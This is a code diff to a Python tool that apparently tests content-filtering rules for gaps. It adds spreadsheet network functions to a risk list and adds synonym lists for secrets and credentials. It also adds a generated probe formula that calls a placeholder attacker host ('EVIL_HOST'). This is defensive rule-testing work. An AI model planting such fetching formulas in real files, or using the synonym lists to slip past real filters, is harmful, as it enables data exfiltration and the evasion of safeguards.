@@ -85,6 +85,7 @@ def attempts_at_texts(attacked: Attacked) -> Iterator[Attempt]:
             yield from _word_of_line(attacked, one)
             yield from _other_ending(attacked, one)
             yield from _other_module(attacked, one)
+            yield from _other_word(attacked, one)
             yield from _written_otherwise(attacked, one)
             yield from _other_digits(attacked, one)
 
@@ -726,12 +727,14 @@ def _going_on(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
         yield Attempt("name that goes on", tries, partial(list[Effect], effects), about=name)
 
 
-_CODE = frozenset(("code", "script", "program", "snippet", "source", "python"))
+_CODE = frozenset(("formula", "code", "script", "program", "snippet", "source", "python"))
 _MODULES = (
     ("reaches the network", ("requests", "urllib", "httpx", "http.client", "aiohttp", "socket", "ftplib",
                              "smtplib", "paramiko", "websockets")),
     ("starts processes", ("subprocess", "os.system", "os.popen", "os.spawn", "os.exec", "pty")),
     ("deletes files", ("os.remove", "os.unlink", "os.rmdir", "shutil.rmtree", ".unlink(", ".rmdir(")),
+    ("fetches or sends something", ("IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE",
+                                    "WEBSERVICE", "IMAGE", "HYPERLINK")),
     ("runs code that is not seen", ("eval(", "exec(", "compile(", "__import__", "importlib")),
 )  # fmt: skip
 """What code does, and names of Python by which it does so."""
@@ -762,7 +765,44 @@ def _code_of(name: str, texts: str = "") -> str:
     known = next((each for each in (f"import {name}", f"from {name}") if each in texts), "")
     if known:
         return known
+    if name.isupper():
+        return f'={name}("https://{EVIL_HOST}/x")'
     return f"a{name}b)" if "(" in name else f"{name}(a)" if "." in name else f"import {name}"
+
+
+_WORDS_ALIKE = tuple(
+    row.split(", ")
+    for row in (
+        "@channel, @here, @everyone, @all, @team",
+        "password, passwd, passphrase, pwd, login, credentials, pin",
+        "confidential, secret, classified, restricted, internal only",
+        "guarantee, promise, assure, warrant",
+        "api key, api-key, apikey, access key, token, bearer",
+        "discount, rebate, voucher, coupon, price off",
+        "iban, account number, bank details",
+        "salary, wage, pay, income, compensation",
+        "diagnosis, finding, illness, condition",
+        "buy now, order now, place order, pay now, checkout",
+    )
+)
+"""Words that stand in texts for the same."""
+
+
+def _other_word(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """Another word for the same as one that a rule closes in a text."""
+    value = attacked.value_of(one)
+    texts = [bare.strip().casefold() for bare in attacked.texts]
+    for alike in _WORDS_ALIKE:
+        known = [each for each in alike if each in texts]
+        stopped = (attacked.with_value(attacked.base, one, bare) for bare in attacked.texts
+                   if bare.strip().casefold() in known)  # fmt: skip
+        if not known or not any(map(attacked.stops, stopped)):
+            continue
+        others = [each for each in alike if each not in known]
+        tries = tries_with(attacked, one, others, f"it may say the same as “{known[0]}”")
+        said = joined("or", [("in", text(each), ("method", value, "lower")) for each in alike])
+        effects = [narrower(attacked.rule, given(attacked, one, said))]
+        yield Attempt("other word", tries, partial(list[Effect], effects), about=known[0])
 
 
 _ENDINGS = tuple(
